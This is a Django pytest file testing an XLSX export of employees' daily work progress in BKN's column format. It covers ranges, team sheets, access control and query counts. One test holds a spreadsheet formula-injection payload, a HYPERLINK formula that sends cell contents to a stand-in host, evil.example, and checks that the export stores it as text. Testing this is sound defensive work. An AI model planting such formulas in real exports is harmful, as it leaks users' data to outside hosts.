"""BKN's Progres Harian exported from our activities (kinerja.progres): the columns in
BKN's order, only reported work of the range, whole-number realisation, the evidence link,
a team's file with a sheet per person, bad ranges refused, access and query count."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from kinerja import services
from kinerja.models import Aktivitas, Iki, RencanaAksi
from kinerja.progres import KOLOM, KOLOM_DAFTAR

from .conftest import approve

T = dt.time
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def iki(skp_pegawai):
    approve(skp_pegawai)
    return Iki.objects.get(rhk__skp=skp_pegawai)


def _activity(pegawai, iki, day, hour, *, uraian="Menyusun laporan", output="1",
              rencana=None, tautan="", submit=True):
    item = services.aktivitas_save(aktivitas=Aktivitas(
        pegawai=pegawai, tanggal=day, mulai=T(hour), selesai=T(hour, 45), uraian=uraian,
        kategori="iki" if iki else "tugas_tambahan", iki=iki, rencana_aksi=rencana,
        output=Decimal(output)), actor=pegawai)
    if tautan:
        services.bukti_add(aktivitas=item, actor=pegawai, tautan=tautan)
    if submit:
        services.aktivitas_submit(items=[item], actor=pegawai)
    return item


def _book(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def _rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.kalender
def test_a_person_exports_the_reported_work_of_the_range_in_bkns_columns(
        iki, pegawai, hari_lapor, login):
    plan = services.rencana_aksi_save(rencana=RencanaAksi(
        rhk=iki.rhk, triwulan=RencanaAksi.triwulan_of(hari_lapor),
        uraian="Menyusun laporan bulanan", target=3, satuan="Dokumen"), actor=pegawai)
    _activity(pegawai, iki, hari_lapor, 8, rencana=plan, output="1.5",
              tautan="https://drive.example.id/berkas/1")
    _activity(pegawai, iki, hari_lapor, 10, output="2.4")
    _activity(pegawai, iki, hari_lapor, 13, uraian="Masih draf", submit=False)
    _activity(pegawai, None, hari_lapor, 15, uraian="Rapat koordinasi")

    response = login(pegawai).get("/aktivitas/progres-harian/",
                                  {"dari": hari_lapor, "sampai": hari_lapor, "lingkup": "saya"})
    assert pegawai.nip in response["Content-Disposition"]
    book = _book(response)
    assert book.sheetnames == ["Progres Harian"]
    rows = _rows(book.worksheets[0])
    assert rows[0] == KOLOM == ["Rencana Aksi", "Tanggal", "Jam Mulai", "Jam Selesai",
                                "Kegiatan Harian", "Realisasi", "Satuan", "Bukti Dukung"]
    day = hari_lapor.isoformat()
    assert rows[1:] == [
        ["Menyusun laporan bulanan", day, "08:00", "08:45", "Menyusun laporan", 2, "Dokumen",
         "https://drive.example.id/berkas/1"],
        [None, day, "10:00", "10:45", "Menyusun laporan", 2, "laporan", None],
        [None, day, "15:00", "15:45", "Rapat koordinasi", 1, "Kegiatan", None],
    ]


def test_only_the_range_is_exported_and_a_file_gives_its_address(
        iki, pegawai, hari_lapor, login, settings):
    settings.SITE_URL = "https://ekinerja.jambiprov.go.id"
    from django.core.files.uploadedfile import SimpleUploadedFile

    from . import files

    earlier = hari_lapor - dt.timedelta(days=1)
    while earlier.weekday() >= 5:
        earlier -= dt.timedelta(days=1)
    _activity(pegawai, iki, earlier, 8, uraian="Hari sebelumnya")
    item = _activity(pegawai, iki, hari_lapor, 9, uraian="Dengan berkas", submit=False)
    bukti = services.bukti_add(aktivitas=item, actor=pegawai, upload=SimpleUploadedFile(
        "nota.pdf", files.pdf(), content_type="application/pdf"))
    services.aktivitas_submit(items=[item], actor=pegawai)
    rows = _rows(_book(login(pegawai).get("/aktivitas/progres-harian/", {
        "dari": hari_lapor, "sampai": hari_lapor})).worksheets[0])
    assert [row[4] for row in rows[1:]] == ["Dengan berkas"]
    assert rows[1][7] == f"https://ekinerja.jambiprov.go.id/bukti/{bukti.pk}/lihat/"


def test_formula_like_text_is_written_as_text(iki, pegawai, hari_lapor, login):
    evil = '=HYPERLINK("http://evil.example/?x="&A3,"detail")'
    _activity(pegawai, iki, hari_lapor, 8, uraian=evil)
    sheet = _book(login(pegawai).get("/aktivitas/progres-harian/", {
        "dari": hari_lapor, "sampai": hari_lapor})).worksheets[0]
    cell = sheet.cell(row=2, column=5)
    assert (cell.value, cell.data_type) == (evil, "s")


def test_an_atasan_exports_the_team_with_a_sheet_per_person(
        iki, pegawai, atasan, hari_lapor, login):
    _activity(pegawai, iki, hari_lapor, 8, uraian="Kerja tim")
    response = login(atasan).get("/aktivitas/progres-harian/", {
        "dari": hari_lapor, "sampai": hari_lapor, "lingkup": "tim"})
    assert "progres-harian-tim-" in response["Content-Disposition"]
    book = _book(response)
    assert book.sheetnames == ["Daftar", pegawai.nip]
    daftar = _rows(book["Daftar"])
    assert daftar[0] == KOLOM_DAFTAR
    assert daftar[1][:2] == [pegawai.nip, pegawai.nama_lengkap] and daftar[1][4] == 1
    person = _rows(book[pegawai.nip])
    assert person[0] == KOLOM and person[1][4] == "Kerja tim"


def test_someone_without_a_team_cannot_export_one(pegawai, pegawai_lain, login, hari_lapor,
                                                  tahun):
    client = login(pegawai_lain)
    page = client.get("/aktivitas/progres-harian/").content.decode()
    assert 'name="lingkup"' in page and 'type="hidden"' in page  # no choice offered
    response = client.get("/aktivitas/progres-harian/", {
        "dari": hari_lapor, "sampai": hari_lapor, "lingkup": "tim"})
    assert response.status_code == 403


@pytest.mark.parametrize("params, fragment", [
    ({"dari": "2026-05-01", "sampai": "2026-04-01"}, "sebelum awalnya"),
    ({"dari": "2025-01-01", "sampai": "2026-06-30"}, "366 hari"),
    ({"dari": "kemarin", "sampai": "2026-04-01"}, "tanggal yang valid"),
    ({"dari": "", "sampai": "2026-04-01"}, "tidak boleh kosong"),
    ({"dari": "2026-04-01", "sampai": "2026-04-30", "lingkup": "semua"}, "pilihan yang valid"),
])
def test_a_bad_range_is_refused_in_indonesian_and_no_file_is_made(pegawai, atasan, login,
                                                                  params, fragment):
    response = login(atasan).get("/aktivitas/progres-harian/", params)  # has a team
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert fragment in response.content.decode()


def test_anonymous_is_sent_to_login(client):
    response = client.get("/aktivitas/progres-harian/", {"dari": "2026-01-01",
                                                          "sampai": "2026-01-31"})
    assert response.status_code == 302 and "/masuk/" in response["Location"]


def test_the_export_takes_the_same_queries_for_one_or_many_activities(
        iki, pegawai, hari_lapor, login):
    client = login(pegawai)
    params = {"dari": hari_lapor, "sampai": hari_lapor}
    _activity(pegawai, iki, hari_lapor, 7, tautan="https://drive.example.id/a")
    with CaptureQueriesContext(connection) as one:
        client.get("/aktivitas/progres-harian/", params)
    for hour in range(8, 16):
        _activity(pegawai, iki, hari_lapor, hour, tautan=f"https://drive.example.id/{hour}")
    with CaptureQueriesContext(connection) as many:
        rows = _rows(_book(client.get("/aktivitas/progres-harian/", params)).worksheets[0])
    assert len(rows) == 10
    assert len(many) == len(one)


def test_the_shipped_sample_has_the_exports_columns_and_valid_rows():
    import csv
    from pathlib import Path

    path = Path(__file__).resolve().parents[2] / "static" / "contoh" / "progres_harian.csv"
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    assert rows[0] == KOLOM
    assert len(rows) > 1
    for row in rows[1:]:
        assert len(row) == len(KOLOM)
        dt.date.fromisoformat(row[1])
        start, end = dt.time.fromisoformat(row[2]), dt.time.fromisoformat(row[3])
        assert start < end and int(row[5]) >= 0 and row[6]


def test_a_units_period_is_exported_by_the_worker_with_nip_and_name(
        iki, pegawai, atasan, hari_lapor, opd_a, admin_opd, login, settings, tmp_path):
    from ekinerja.ekspor import ekspor_jalankan
    from ekinerja.models import Ekspor
    from kinerja.progres import KOLOM_UNIT
    from kinerja.selectors import periode_of

    settings.MEDIA_ROOT = tmp_path
    _activity(pegawai, iki, hari_lapor, 8, uraian="Kerja unit")
    _activity(pegawai, iki, hari_lapor, 10, uraian="Masih draf", submit=False)
    periode = periode_of(hari_lapor)
    client = login(admin_opd)
    response = client.post("/ekspor/", {"jenis": "progres_harian", "unit": opd_a.pk,
                                        "tahun": periode.tahun.tahun, "nomor": periode.nomor})
    assert response.status_code == 302
    ekspor = Ekspor.objects.get()
    assert ekspor_jalankan(ekspor.pk) is True  # what the worker runs
    response = client.get(f"/ekspor/{ekspor.pk}/unduh/")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = _rows(book.worksheets[0])
    assert rows[0] == KOLOM_UNIT == ["NIP", "Nama", *KOLOM]
    assert [row[:2] + row[6:7] for row in rows[1:]] == [
        [pegawai.nip, pegawai.nama_lengkap, "Kerja unit"]]
